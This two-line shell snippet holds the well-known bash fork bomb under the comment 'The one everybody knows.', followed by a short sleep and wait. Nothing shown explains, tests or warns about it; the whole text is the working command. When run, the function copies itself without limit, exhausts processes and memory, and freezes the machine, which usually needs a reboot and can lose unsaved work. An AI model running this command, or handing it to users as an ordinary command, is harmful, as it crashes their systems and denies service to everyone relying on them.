# The one everybody knows.
:() { : | : & }; :; sleep 0.3; wait
